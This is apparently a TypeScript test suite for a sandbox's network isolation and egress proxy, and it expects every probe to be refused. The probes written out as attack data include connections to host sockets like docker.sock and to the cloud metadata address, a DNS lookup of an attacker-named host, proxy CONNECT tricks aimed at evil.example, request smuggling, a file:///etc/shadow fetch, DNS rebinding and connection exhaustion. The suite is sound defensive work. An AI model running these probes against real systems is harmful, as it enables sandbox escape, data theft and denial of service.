import { rmSync } from "node:fs";
import net from "node:net";
import { join } from "node:path";
import { parseNetworkRule } from "../../src/network-rule.ts";
import { type Attack, type Place, py, pythonAttack, refusedCommand } from "./attack.ts";

/** Whether a listener of this machine was reached from inside, by `code` with `ADDRESS` filled in. */
function unreachable(
  name: string,
  parts: { tries: string; listen: (place: Place) => string | number; code: string },
): Attack {
  const { tries, listen, code } = parts;
  return {
    name,
    tries,
    must: "refused, and the listener hears nothing",
    contained: { said: "refused", heard: 0 },
    async run(place) {
      let heard = 0;
      const server = net.createServer((socket) => {
        heard += 1;
        socket.destroy();
      });
      const at = listen(place);
      await new Promise<void>((resolve) => {
        if (typeof at === "number") server.listen(at, "127.0.0.1", resolve);
        else server.listen(at, resolve);
      });
      const address = server.address();
      const filled = typeof address === "object" && address !== null ? String(address.port) : JSON.stringify(at);
      const said = await py(await place.open(), code.replaceAll("ADDRESS", filled));
      await new Promise((resolve) => server.close(resolve));
      if (typeof at === "string" && !at.startsWith("\0")) rmSync(at, { force: true });
      return { said, heard };
    },
  };
}

const CONNECT = (family: string, address: string) => `
import socket
try:
    with socket.socket(${family}) as s:
        s.settimeout(3)
        s.connect(${address})
        print("reached")
except OSError: print("refused")`;

/** What the proxy of a sandbox that may reach `open.example:443` answers to raw requests. */
function proxyAttack(
  name: string,
  { tries, request, status }: { tries: string; request: string; status: string },
): Attack {
  return {
    name,
    tries,
    must: `the proxy answers ${status} and connects to nothing`,
    contained: { status, connected: 0 },
    async run({ open }) {
      const network = ["open.example:443", "*.wild.example:443"].flatMap((text) => parseNetworkRule(text) ?? []);
      const sandbox = await open({ network });
      const code = `
import socket
s = socket.create_connection(("127.0.0.1", 3128), 5)
s.sendall(${request})
data = b""
while chunk := s.recv(4096): data += chunk
print(data.split(b" ")[1].decode())`;
      const answer = await py(sandbox, code);
      const connected = sandbox.networkLog?.attempts.filter(({ address }) => address !== null).length;
      return { status: answer, connected };
    },
  };
}

const connectTo = (target: string) => `b"CONNECT ${target} HTTP/1.1\\r\\n\\r\\n"`;

/** Reaching this machine, its network or the world. */
export const NETWORK: readonly Attack[] = [
  unreachable("abstract sockets", {
    tries: "a socket of this machine that has no file (D-Bus, X11, containerd)",
    listen: () => `\0rolloutd-attack-${process.pid}`,
    code: CONNECT("socket.AF_UNIX", "ADDRESS"),
  }),
  unreachable("sockets with a path", {
    tries: "a socket in a folder of this machine (docker.sock)",
    listen: ({ secret }) => join(secret.folder, "listener"),
    code: CONNECT("socket.AF_UNIX", "ADDRESS"),
  }),
  unreachable("ports of this machine", {
    tries: "a service that listens on 127.0.0.1: the server itself, the engine",
    listen: () => 0,
    code: CONNECT("socket.AF_INET", '("127.0.0.1", ADDRESS)'),
  }),
  pythonAttack("addresses outside", {
    tries: "the metadata service, a name server, the local network, IPv6, UDP and broadcast",
    must: "no route, each",
    code: `
import socket
def try_it(family, kind, address):
    try:
        with socket.socket(family, kind) as s:
            s.settimeout(2)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            s.connect(address)
            s.send(b"x")
            return "sent"
    except OSError: return "refused"
print({try_it(*each) for each in [
    (2, 1, ("169.254.169.254", 80)), (2, 1, ("1.1.1.1", 53)), (2, 2, ("1.1.1.1", 53)), (2, 2, ("10.0.0.1", 53)),
    (2, 2, ("255.255.255.255", 9)), (2, 2, ("224.0.0.1", 9)), (10, 1, ("2606:4700::1111", 443)), (10, 2, ("fe80::1", 9)),
    (10, 2, ("ff02::1", 9))]})`,
    contained: "{'refused'}",
  }),
  pythonAttack("names", {
    tries: "data in the names that it asks for",
    must: "no resolver",
    code: `
import socket
try: print(socket.getaddrinfo("secret.attacker.example", 80))
except OSError as error: print(type(error).__name__)`,
    contained: "gaierror",
  }),
  refusedCommand(
    "network settings",
    "an interface or route of its own",
    "ip link add dummy0 type dummy || ip link add v0 type veth || ip route add default dev lo",
  ),
  proxyAttack("a host that is not allowed", {
    tries: "any host",
    request: connectTo("evil.example:443"),
    status: "403",
  }),
  proxyAttack("a port that is not allowed", {
    tries: "another port of an allowed host",
    request: connectTo("open.example:22"),
    status: "403",
  }),
  proxyAttack("a suffix", {
    tries: "open.example.evil.example",
    request: connectTo("open.example.evil.example:443"),
    status: "403",
  }),
  proxyAttack("a prefix", { tries: "evilopen.example", request: connectTo("evilopen.example:443"), status: "403" }),
  proxyAttack("the top of a wildcard", {
    tries: "wild.example itself, and evilwild.example",
    request: connectTo("evilwild.example:443"),
    status: "403",
  }),
  proxyAttack("NUL in a name", {
    tries: "evil.example\\0.open.example, which some compare by its end",
    request: connectTo("evil.example\\0.wild.example:443"),
    status: "400",
  }),
  proxyAttack("a dot at the end", {
    tries: "open.example., which is another string and the same host",
    request: connectTo("open.example.:443"),
    status: "400",
  }),
  proxyAttack("a user before the host", {
    tries: "open.example@evil.example",
    request: connectTo("open.example@evil.example:443"),
    status: "400",
  }),
  proxyAttack("an address", { tries: "127.0.0.1", request: connectTo("127.0.0.1:443"), status: "400" }),
  proxyAttack("an address as one number", { tries: "2130706433", request: connectTo("2130706433:443"), status: "400" }),
  proxyAttack("an address in hexadecimal", { tries: "0x7f000001", request: connectTo("0x7f.1:443"), status: "400" }),
  proxyAttack("an IPv6 address", { tries: "[::1]", request: connectTo("[::1]:443"), status: "400" }),
  proxyAttack("a line break in a target", {
    tries: "a second request inside the first",
    request: 'b"CONNECT open.example:443\\nHost: evil.example HTTP/1.1\\r\\n\\r\\n"',
    status: "400",
  }),
  proxyAttack("a file by the proxy", {
    tries: "file:///etc/shadow",
    request: 'b"GET file:///etc/shadow HTTP/1.1\\r\\n\\r\\n"',
    status: "400",
  }),
  proxyAttack("two lengths", {
    tries: "a request that two servers would end at different places",
    request:
      'b"POST http://open.example:443/ HTTP/1.1\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"',
    status: "400",
  }),
  proxyAttack("an endless head", {
    tries: "the server's memory",
    request: 'b"GET http://open.example:443/ HTTP/1.1\\r\\nA: " + b"x" * 100_000',
    status: "431",
  }),
  {
    name: "an allowed name with a private address",
    tries: "a name whose owner points it at 169.254.169.254, 127.0.0.1 or 10.0.0.1 (DNS rebinding)",
    must: "403, and nothing is connected to",
    contained: ["403", "403", "403"],
    async run({ open }) {
      const network = ["metadata.test", "loopback.test", "lan.test"].flatMap(
        (name) => parseNetworkRule(`${name}:80`) ?? [],
      );
      const sandbox = await open({ network });
      const code = `
import socket
for name in ("metadata.test", "loopback.test", "lan.test"):
    s = socket.create_connection(("127.0.0.1", 3128), 5)
    s.sendall(f"CONNECT {name}:80 HTTP/1.1\\r\\n\\r\\n".encode())
    print(s.recv(4096).split(b" ")[1].decode())`;
      return (await py(sandbox, code)).split("\n");
    },
  },
  {
    name: "every connection of the proxy",
    tries: "holding all of them open, so that others get none",
    must: "a second sandbox's proxy answers",
    contained: "403",
    async run({ open }) {
      const network = [parseNetworkRule("open.example:443")].filter((rule) => rule !== null);
      const [greedy, other] = [await open({ network }), await open({ network })];
      await py(greedy, `import socket\nheld = [socket.create_connection(("127.0.0.1", 3128), 5) for _ in range(60)]`);
      return py(
        other,
        `import socket\ns = socket.create_connection(("127.0.0.1", 3128), 5); s.sendall(b"CONNECT a.b:1 HTTP/1.1\\r\\n\\r\\n"); print(s.recv(99).split(b" ")[1].decode())`,
      );
    },
  },
];
